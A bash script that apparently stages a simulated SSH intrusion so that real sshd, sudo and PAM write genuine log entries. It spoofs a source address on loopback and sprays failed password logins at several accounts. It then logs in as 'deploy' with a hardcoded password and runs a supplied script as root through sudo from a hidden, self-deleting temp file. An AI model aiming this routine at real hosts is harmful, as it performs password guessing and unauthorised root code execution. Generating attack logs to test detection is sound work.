#!/bin/bash
# shellcheck disable=SC2016 # Other interpreters expand those.
# An intruder guesses passwords at the real sshd until one fits, and becomes root by sudo: everything in the logs is
# what sshd, sudo and PAM write. His address is this machine's own for so long; nobody else is asked.
# FROM, TO: addresses; SCRIPT: what root then runs.
set -u
: "${FROM:?}" "${TO:?}" "${SCRIPT:?}"
work=$(mktemp -d /dev/shm/x.XXXX)
trap 'rm -rf "$work"; ip address del "$FROM/32" dev lo' EXIT
ip address add "$FROM/32" dev lo
printf '#!/bin/sh\ncat "$GUESS"\n' >"$work/ask"
chmod 700 "$work/ask"

# log_in USER PROMPTS COMMAND...
log_in() {
  local user=$1 prompts=$2
  shift 2
  SSH_ASKPASS="$work/ask" SSH_ASKPASS_REQUIRE=force setsid -w ssh -b "$FROM" -o StrictHostKeyChecking=no \
    -o UserKnownHostsFile=/dev/null -o PubkeyAuthentication=no -o NumberOfPasswordPrompts="$prompts" \
    -o LogLevel=ERROR "$user@$TO" "$@"
}

echo wrong >"$work/wrong"
echo shop-2024 >"$work/right"
for user in root admin deploy oracle; do
  GUESS="$work/wrong" log_in "$user" 6 true </dev/null >/dev/null 2>&1 &
done
wait
GUESS="$work/right" log_in deploy 1 "cat >/tmp/.s; echo shop-2024 | sudo -S -p '' bash /tmp/.s; rm -f /tmp/.s" <"$SCRIPT"
